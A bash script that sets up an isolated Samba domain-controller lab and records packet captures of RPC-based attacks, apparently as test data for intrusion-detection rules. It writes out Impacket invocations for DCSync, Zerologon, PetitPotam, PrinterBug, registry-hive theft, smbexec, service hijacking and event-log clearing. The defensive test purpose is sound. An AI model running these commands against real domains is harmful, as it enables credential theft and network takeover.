#!/bin/bash
# Remakes the captures of lateral movement and credential theft over
# DCE/RPC in tests/pcaps (README.md, test_rpc_rules.sh): Impacket against a
# Samba AD DC (scripts/samba_dc.sh) where Samba serves the interface, and
# against rpc_responder.py for those it does not (DCOM, WMI, task
# scheduler, atsvc, eventlog, IEventService, EFSRPC, ISecLogon). Two
# namespaces joined by a veth pair, tcpdump on the client's end.
#
# usage: make_rpc_attack_captures.sh OUTDIR     (root; about two minutes)
# Namespaces rp-cap-srv / rp-cap-cli: the DC at 198.18.16.20, the
# responder at 198.18.16.21 (ports 135 and 49700), the client at
# 198.18.16.10; removed at the end. The DC state is kept in $SMBGW_DC_DIR
# (default /tmp/smbgw-rpcdc) so that a second run skips the provisioning.
# SMBGW_CAPTURES="NAME ..." remakes only those captures.
set -euo pipefail

out=$(mkdir -p "${1:?usage: make_rpc_attack_captures.sh OUTDIR}" && cd "$1" && pwd)
here=$(cd "$(dirname "$0")" && pwd)
dc=$here/../../scripts/samba_dc.sh
dcdir=${SMBGW_DC_DIR:-/tmp/smbgw-rpcdc}
srv=rp-cap-srv
cli=rp-cap-cli
dc_ip=198.18.16.20
resp_ip=198.18.16.21
cli_ip=198.18.16.10
examples=/usr/share/doc/python3-impacket/examples
py=/usr/bin/python3
client="$py $here/rpc_attack_client.py"
creds="SMBGW/Administrator:Smbgw-pass1"

cleanup() {
	[ -n "${scratch:-}" ] && rm -rf "$scratch"
	[ -n "${dump_pid:-}" ] && kill "$dump_pid" 2>/dev/null
	[ -n "${resp_pid:-}" ] && kill "$resp_pid" 2>/dev/null
	"$dc" stop "$dcdir" || true
	ip netns del "$cli" 2>/dev/null || true
	ip netns del "$srv" 2>/dev/null || true
	rm -rf "/etc/netns/$cli"
}
trap cleanup EXIT

ip netns add "$srv"
ip netns add "$cli"
ip link add rp-capc type veth peer name rp-caps
ip link set rp-capc netns "$cli"
ip link set rp-caps netns "$srv"
for ns in "$srv" "$cli"; do
	ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
	ip -n "$ns" link set lo up
done
ip netns exec "$cli" ethtool -K rp-capc tx off >/dev/null
ip netns exec "$srv" ethtool -K rp-caps tx off >/dev/null
ip -n "$cli" addr add "$cli_ip/24" dev rp-capc
ip -n "$srv" addr add "$dc_ip/24" dev rp-caps
ip -n "$srv" addr add "$resp_ip/24" dev rp-caps
ip -n "$cli" link set rp-capc up
ip -n "$srv" link set rp-caps up
SMBGW_DC_PLEN=24 "$dc" start "$srv" "$dc_ip" "$dcdir"
ip netns exec "$srv" $py "$here/rpc_responder.py" "$resp_ip" 135 49700 &
resp_pid=$!
dcname=$(sed -n 's/^\tnetbios name = //p' "$dcdir/etc/smb.conf")
# secretsdump.py leaves a session resume file in its directory on failure.
scratch=$(mktemp -d /tmp/rp-capwork.XXXXXX)
cd "$scratch"
sleep 2

# capture NAME CMD...: CMD in the client namespace, tcpdump around it.
capture() {
	local name=$1
	shift
	if [ -n "${SMBGW_CAPTURES:-}" ] && [[ " $SMBGW_CAPTURES " != *" $name "* ]]; then
		return 0
	fi
	ip netns exec "$cli" tcpdump -i rp-capc -s 0 -U -B 65536 -w "$out/$name.pcap" \
		"host $dc_ip or host $resp_ip" 2>/dev/null &
	dump_pid=$!
	sleep 1
	echo "== $name: $*"
	ip netns exec "$cli" timeout 120 "$@" || echo "($name: exit $?)"
	sleep 1
	kill "$dump_pid"
	wait "$dump_pid" 2>/dev/null || true
	dump_pid=
}

# Against the DC.
capture rpc_dcsync_dc $py "$examples/secretsdump.py" -just-dc "$creds@$dc_ip"
capture rpc_zerologon_dc $client zerologon "$dc_ip" "$dcname" 30
capture rpc_printerbug_dc $client printerbug "$dc_ip" SMBGW Administrator Smbgw-pass1 "$cli_ip"
capture rpc_reg_autostart_dc $py "$examples/reg.py" "$creds@$dc_ip" add \
	-keyName 'HKLM\SYSTEM\CurrentControlSet\Services\Eventlog' -v Updater -vt REG_SZ \
	-vd 'C:\Windows\Temp\u.exe'
# Hives saved remotely for offline cracking (T1003.002): reg.py save asks
# the server to write SYSTEM (the boot key's hive) to a UNC path
# (BaseRegSaveKey; Samba refuses).
capture rpc_reg_save_dc $py "$examples/reg.py" "$creds@$dc_ip" save \
	-keyName 'HKLM\SYSTEM' -o "\\\\$cli_ip\\share"
capture rpc_reg_ordinary_dc $py "$examples/reg.py" "$creds@$dc_ip" add \
	-keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion' -v Setting -vt REG_SZ -vd 1
capture rpc_backupkey_dc $client backupkey "$dc_ip" SMBGW Administrator Smbgw-pass1
capture rpc_samrdump_dc $py "$examples/samrdump.py" "$creds@$dc_ip"
capture rpc_rpcdump_dc $py "$examples/rpcdump.py" "$creds@$dc_ip"
capture rpc_lookupsid_dc $py "$examples/lookupsid.py" "$creds@$dc_ip" 520
capture rpc_netview_dc timeout 15 $py "$examples/netview.py" "$creds" -target "$dc_ip"
capture rpc_services_create_dc $py "$examples/services.py" "$creds@$dc_ip" create \
	-name smbgwsvc -display smbgwsvc -path 'C:\Windows\smbgw.exe'
# Kerberos logons (Samba's own client; Impacket 0.10 fails on this KDC's
# answers): an executable put on NETLOGON, a service created pointing at
# it, the share listed again. The client finds the DC by name through the
# namespace's hosts file and the KDC through its own krb5.conf.
mkdir -p "/etc/netns/$cli"
echo "$dc_ip ${dcname,,}.smbgw.test ${dcname,,}" >"/etc/netns/$cli/hosts"
printf '[libdefaults]\n default_realm = SMBGW.TEST\n dns_lookup_kdc = false\n[realms]\n SMBGW.TEST = {\n  kdc = %s\n }\n' \
	"$dc_ip" >"$scratch/krb5.conf"
{ printf 'MZ'; head -c 4094 /dev/zero; } >"$scratch/tool.exe"
krb="KRB5_CONFIG=$scratch/krb5.conf"
kuser="--use-kerberos=required -U Administrator@SMBGW.TEST%Smbgw-pass1"
capture rpc_services_kerberos_dc sh -c "$krb smbclient $kuser //${dcname,,}.smbgw.test/netlogon \
	-c 'put $scratch/tool.exe tool.exe'; \
	$krb net rpc service create smbgwk smbgwk 'C:\\Windows\\tool.exe' $kuser -S ${dcname,,}.smbgw.test; \
	$krb smbclient $kuser //${dcname,,}.smbgw.test/netlogon -c ls"
# SCShell's way: an existing service's binary path changed to a command
# (ChangeServiceConfigW), started, then put back; no service created and
# nothing written to a share.
capture rpc_services_change_dc sh -c "$py $examples/services.py $creds@$dc_ip change \
	-name Spooler -path 'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\u.bat'; \
	$py $examples/services.py $creds@$dc_ip start -name Spooler"
# smbexec.py: a service per command whose binary path is the command
# itself (%COMSPEC% ... ^> \\127.0.0.1\C$\__output), nothing written to
# a share (Samba faults the CreateServiceW, so the shell ends there).
capture rpc_smbexec_dc sh -c "printf 'whoami\\nexit\\n' | $py $examples/smbexec.py $creds@$dc_ip"
# An ordinary member: computer account added (SAMR), its Netlogon secure
# channel, the group policy share listed.
capture rpc_member_ordinary_dc sh -c "$py $examples/addcomputer.py -method SAMR \
	-computer-name SMBGWWS1\$ -computer-pass Member-pass1 -dc-ip $dc_ip $creds; \
	$client member $dc_ip SMBGWWS1 Member-pass1; \
	smbclient -U Administrator%Smbgw-pass1 //$dc_ip/sysvol -c 'recurse; ls'"
# Against the responder.
capture rpc_atsvc_job $client atsvc "$resp_ip" 49700
capture rpc_tsch_task $client tsch "$resp_ip" 49700
capture rpc_eventlog_clear $client eventlog "$resp_ip" 49700
capture rpc_even6_clear $client even6 "$resp_ip" 49700
capture rpc_petitpotam $client efsr "$resp_ip" 49700 "$cli_ip"
capture rpc_dcom_mmc20 $client dcom "$resp_ip" 135 mmc20
capture rpc_dcom_wmi sh -c "$client dcom $resp_ip 135 wmi; $client wmiexec $resp_ip 49700"
capture rpc_seclogon $client seclogon "$resp_ip" 49700
capture rpc_printnightmare $client raw "$resp_ip" 49700 76f03f96-cdfd-44fc-a22c-64950a001209 62
capture rpc_dcshadow $client raw "$resp_ip" 49700 e3514235-4b06-11d1-ab04-00c04fc2dcd2 17
capture rpc_shutdown $client raw "$resp_ip" 49700 894de0c0-0d55-11d3-a322-00c04fa321a1 0
ls -l "$out"
